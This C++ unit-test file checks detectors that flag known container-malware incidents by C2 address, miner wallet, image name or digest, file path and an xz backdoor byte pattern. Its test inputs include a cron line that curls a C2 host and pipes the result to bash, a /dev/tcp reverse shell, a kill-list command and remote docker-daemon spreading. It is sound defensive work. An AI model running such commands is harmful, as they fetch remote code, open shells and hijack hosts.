// The three detectors of known incidents. Real indicators are taken from the data at run time, so
// that they stand in rules/ only.
#include <gtest/gtest.h>

#include "detect/detector_test_support.h"
#include "detect/elf_sample_test_support.h"
#include "detect/incident_data_support.h"
#include "detect/known_image_support.h"

namespace lazaret::detect {

extern const Detector known_bad_indicator_detector;
extern const Detector known_bad_file_detector;
extern const Detector known_bad_image_detector;
extern const Detector known_bad_code_detector;

namespace {

using format::FileKind;
using format::Language;

std::string value_of(std::string_view incident, std::string_view type) {
  for (const KnownIndicator& indicator : incident_data().indicators) {
    if (indicator.incident->id == incident && indicator.type == type) return indicator.value;
  }
  ADD_FAILURE() << incident << " has no " << type;
  return {};
}

std::string host_2018() {
  const std::string value = value_of("docker123321-2018", "c2");
  return value.substr(0, value.find(':'));
}

test::Outcome look(std::string path, std::string content, Origin origin = Origin::file) {
  return test::inspect(known_bad_indicator_detector,
                       {.path = std::move(path), .content = std::move(content), .origin = origin});
}

TEST(KnownBadIndicator, CronLineOf2018InTheEntrypoint) {
  const auto outcome = look("config.Entrypoint",
                            "sh -c 'echo \"* * * * * curl -s http://" + host_2018() +
                                ":8220/logo3.jpg | bash -s\" >> /mnt/etc/crontab'",
                            Origin::config);
  const FileFinding* finding = outcome.find("known-bad.c2-address");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(test::severity_of(*finding), Severity::critical);
  EXPECT_NE(finding->evidence.find("logo3.jpg"), std::string::npos);
  EXPECT_NE(finding->evidence.find("docker123321-2018"), std::string::npos);
  EXPECT_TRUE(outcome.has_indicator("c2", value_of("docker123321-2018", "c2")));
}

TEST(KnownBadIndicator, AnyPortOfTheHostCounts) {
  EXPECT_TRUE(look("/x.sh", "#!/bin/sh\ncurl http://" + host_2018() + ":9999/a\n")
                  .has("known-bad.c2-address"));
}

TEST(KnownBadIndicator, AddressWrittenAsANumber) {
  const std::string host = host_2018();
  std::uint32_t number = 0;
  unsigned part = 0;
  for (const char c : host + '.') {
    if (c != '.') {
      part = part * 10 + static_cast<unsigned>(c - '0');
      continue;
    }
    number = number << 8 | part;
    part = 0;
  }
  EXPECT_TRUE(look("/x.sh", "#!/bin/sh\ncurl http://" + std::to_string(number) + ":8220/a\n")
                  .has("known-bad.c2-address"));
  EXPECT_TRUE(look("/x.sh", "#!/bin/bash\nbash -i >&/dev/tcp/" + std::to_string(number) + "/1\n")
                  .has("known-bad.c2-address"));
  EXPECT_TRUE(look("/x.sh", "#!/bin/sh\nnumber=" + std::to_string(number) + "\n").findings.empty())
      << "a bare number may be anything";
}

TEST(KnownBadIndicator, PartsOfLongerAddressesDoNotCount) {
  const std::string host = host_2018();
  EXPECT_TRUE(look("/x.sh", "#!/bin/sh\ncurl http://1" + host + "/\n").findings.empty());
  EXPECT_TRUE(look("/x.sh", "#!/bin/sh\ncurl http://" + host + "9/\n").findings.empty());
  EXPECT_TRUE(look("/x.sh", "#!/bin/sh\nx=1." + host + "\n").findings.empty());
  EXPECT_TRUE(look("/x.sh", "#!/bin/sh\nx=" + host + ".7\n").findings.empty());
}

TEST(KnownBadIndicator, BlockListsAndReportsAreMentions) {
  const auto list = look("/etc/blocklist.txt", "192.0.2.1\n" + host_2018() + "\n198.51.100.7\n");
  ASSERT_TRUE(list.has("known-bad.mention"));
  EXPECT_EQ(test::severity_of(list.findings[0]), Severity::low);
  const auto comment = look("/x.sh", "#!/bin/sh\n# blocks " + host_2018() + "\niptables -L\n");
  EXPECT_EQ(comment.rules(), std::vector<std::string>{"known-bad.mention"});
  const auto report = look("/usr/share/doc/x/README.md",
                           "the attackers ran curl http://" + host_2018() + ":8220/logo3.jpg\n");
  EXPECT_EQ(report.rules(), std::vector<std::string>{"known-bad.mention"});
}

TEST(KnownBadIndicator, WalletInAMinersConfiguration) {
  const std::string wallet = value_of("docker123321-2018", "wallet.monero");
  const auto outcome =
      look("/config.json", "{\"pools\":[{\"url\":\"pool.example:3333\",\"user\":\"" + wallet +
                               "\",\"pass\":\"x\"}]}");
  ASSERT_TRUE(outcome.has("known-bad.wallet"));
  EXPECT_TRUE(outcome.has_indicator("wallet.monero", wallet));
  EXPECT_EQ(look("/list.json", "[\"" + wallet + "\"]").rules(),
            std::vector<std::string>{"known-bad.mention"});
  EXPECT_TRUE(look("/config.json", "{\"user\":\"X" + wallet + "\"}").findings.empty());
}

TEST(KnownBadIndicator, WalletInsideAnExecutable) {
  test::ElfSample elf;
  elf.type = 2;
  elf.data = "-u " + value_of("hub-feedback-miners-2018", "wallet.monero") + std::string(1, '\0');
  EXPECT_TRUE(look("/usr/bin/java", elf.build()).has("known-bad.wallet"));
}

TEST(KnownBadIndicator, AnExecutableWithManyIncidentsIsAScannerAndStillShown) {
  test::ElfSample elf;
  elf.type = 2;
  for (const KnownIndicator& indicator : incident_data().indicators)
    elf.data += indicator.value + std::string(1, '\0');
  const auto outcome = look("/usr/bin/scanner", elf.build());
  ASSERT_FALSE(outcome.findings.empty());
  for (const FileFinding& finding : outcome.findings)
    EXPECT_LE(test::severity_of(finding), Severity::medium) << finding.evidence;
}

TEST(KnownBadIndicator, LoginOfAPoolAccount) {
  const std::string login = value_of("xulu-2019", "login");
  EXPECT_TRUE(
      look("config.Cmd", "/darwin -o pool.example:20580 -u " + login + " -p x", Origin::config)
          .has("known-bad.login"));
  EXPECT_TRUE(look("config.Cmd", "/darwin -u " + login + "ument", Origin::config).findings.empty());
}

TEST(KnownBadIndicator, TokensOfTheKillListAreHighNotCritical) {
  const std::string token = value_of("docker123321-2018", "token");
  const auto outcome = look("/logo3.jpg", "#!/bin/sh\nps auxf|grep -v grep|grep " + token +
                                              "|awk '{print $2}'|xargs kill -9\n");
  const FileFinding* finding = outcome.find("known-bad.script-token");
  ASSERT_NE(finding, nullptr);
  EXPECT_EQ(test::severity_of(*finding), Severity::high);
  EXPECT_EQ(look("/words.txt", token + "\n").rules(),
            std::vector<std::string>{"known-bad.mention"});
}

TEST(KnownBadIndicator, StartingAKnownImage) {
  EXPECT_TRUE(look("/spread.sh", "#!/bin/sh\ndocker -H tcp://$ip:2375 run -d zoolu2/jauto\n")
                  .has("known-bad.image-use"));
  EXPECT_TRUE(look("/spread.sh", "#!/bin/sh\ndocker run docker.io/docker123321/anything\n")
                  .has("known-bad.image-use"));
  EXPECT_TRUE(look("/x.sh", "#!/bin/sh\ndocker pull quay.io/zoolu2/jauto\n").findings.empty())
      << "another registry's account of that name is somebody else";
  EXPECT_TRUE(look("/x.sh", "#!/bin/sh\ndocker run notzoolu2/jauto\n").findings.empty());
  EXPECT_EQ(look("/x.py", "#!/usr/bin/python3\nBLOCKED = ['zoolu2/jauto']\n").rules(),
            std::vector<std::string>{"known-bad.mention"});
}

TEST(KnownBadFile, ByPathAndDigest) {
  const std::string path = value_of("docker123321-2018", "path");
  EXPECT_TRUE(test::inspect(known_bad_file_detector, {.path = path, .content = "anything"})
                  .has("known-bad.file-path"));
  EXPECT_TRUE(test::inspect(known_bad_file_detector, {.path = "/x" + path, .content = "anything"})
                  .findings.empty());
  EXPECT_TRUE(
      test::inspect(known_bad_file_detector, {.path = path, .content = "anything", .nesting = 1})
          .findings.empty());
}

TEST(KnownBadFile, EverythingBelowAFolder) {
  const std::string folder = value_of("backdoor-gates-2018", "path");
  ASSERT_TRUE(folder.ends_with('/'));
  const auto look = [](std::string path) {
    return test::inspect(known_bad_file_detector, {.path = std::move(path), .content = "anything"});
  };
  EXPECT_TRUE(look(folder + "getty").has("known-bad.file-path"));
  EXPECT_FALSE(look(folder.substr(0, folder.size() - 1) + "s").has("known-bad.file-path"));
}

class KnownBadImage : public testing::Test {
 protected:
  std::vector<ImageFinding> look_at(std::string name) {
    image.name = std::move(name);
    return test::inspect_image(known_bad_image_detector, image);
  }
  test::FakeImage image;
};

TEST_F(KnownBadImage, NamesOf2018) {
  for (const KnownImage& known : incident_data().images) {
    if (known.incident->id != "docker123321-2018") continue;
    const auto findings = look_at(known.repository + ":latest");
    ASSERT_EQ(findings.size(), 1u) << known.repository;
    EXPECT_EQ(findings[0].rule->id, "known-bad.image-name");
    EXPECT_EQ(findings[0].rule->severity, Severity::critical);
    EXPECT_FALSE(findings[0].severity.has_value());
  }
}

TEST_F(KnownBadImage, OtherImagesOfTheAccount) {
  ASSERT_EQ(look_at("docker.io/docker123321/never-heard-of:1").size(), 1u);
  EXPECT_EQ(look_at("docker.io/docker1233210/tomcat:1").size(), 0u);
  EXPECT_EQ(look_at("docker.io/library/tomcat:latest").size(), 0u);
  EXPECT_EQ(look_at("").size(), 0u);
}

TEST_F(KnownBadImage, TheSamePathOnAMirrorIsLessSure) {
  const auto findings =
      look_at("mirror.example/docker123321/tomcat@sha256:" + std::string(64, 'a'));
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].severity, Severity::high);
  EXPECT_EQ(findings[0].confidence, Confidence::medium);
}

TEST_F(KnownBadImage, DigestsCountUnderAnyNameAndNamesOfTheRealProjectDoNot) {
  const KnownImage* known = nullptr;
  for (const KnownImage& candidate : incident_data().images) {
    if (!candidate.digest.empty()) known = &candidate;
  }
  ASSERT_NE(known, nullptr);
  EXPECT_EQ(look_at(known->repository + ":" + known->tags.front()).size(), 0u);
  EXPECT_EQ(look_at("registry.example/other/name@" + known->digest.str()).size(), 1u);
  image.description.digest = known->digest;
  const auto findings = look_at("registry.example/other/name:1");
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].rule->id, "known-bad.image-digest");
  EXPECT_NE(findings[0].evidence.find(known->repository), std::string::npos);
  image.description.digest = Digest();
  EXPECT_EQ(look_at("registry.example/other/name:1").size(), 0u);
  image.index = known->digest;
  EXPECT_EQ(look_at("registry.example/other/name:1").size(), 1u);
}

TEST(KnownImages, ALayerCountsUnderAnyNameByDigestAndDiffId) {
  const std::string layer = "sha256:" + std::string(64, 'b');
  const DataFile file{"incidents/own.toml", "id = \"own\"\ntitle = \"Own\"\nfirst_seen = \"2026\"\n[[indicator]]\ntype = \"layer\"\nvalue = \"" + layer + "\"\nconfidence = \"high\"\nsource = \"us\"\n"};
  const auto data = parse_incident_data({&file, 1});
  ASSERT_TRUE(data.ok()) << data.error().message;
  ImageIdentity identity;
  identity.references = {"docker.io/library/debian:12"};
  std::vector<ImageFinding> findings;
  find_known_images(*data, identity, findings);
  EXPECT_TRUE(findings.empty());
  identity.layers = {*Digest::parse("sha256:" + std::string(64, 'a')), *Digest::parse(layer)};
  find_known_images(*data, identity, findings);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].rule->id, "known-bad.image-layer");
  EXPECT_EQ(findings[0].indicators.at(0).value, layer);
  const DataFile broken{"incidents/own.toml", file.content.substr(0, file.content.find("sha256:")) + "sha256:12345678\"\nconfidence = \"high\"\nsource = \"us\"\n"};
  EXPECT_FALSE(parse_incident_data({&broken, 1}).ok());
}

TEST(KnownBadCode, XzBackdoorByItsMachineCode) {
  const std::string code =
      "\xf3\x0f\x1e\xfa\x55\x48\x89\xf5\x4c\x89\xce\x53\x89\xfb\x81\xe7" +
      std::string("\x00\x00\x00\x80\x48\x83\xec\x28\x48\x89\x54\x24\x18\x48\x89\x4c\x24\x10", 18);
  test::ElfSample elf;
  elf.soname = "liblzma.so.5";
  elf.data = std::string(100, '\x90') + code;
  const auto outcome = test::inspect(known_bad_code_detector,
                                     {.path = "/usr/lib/liblzma.so.5.6.1", .content = elf.build()});
  ASSERT_TRUE(outcome.has("known-bad.xz-backdoor"));
  EXPECT_EQ(outcome.findings[0].offset, elf.build().find(code));
  elf.data[120] = '\x00';
  EXPECT_TRUE(test::inspect(known_bad_code_detector, {.content = elf.build()}).findings.empty());
}

}  // namespace
}  // namespace lazaret::detect
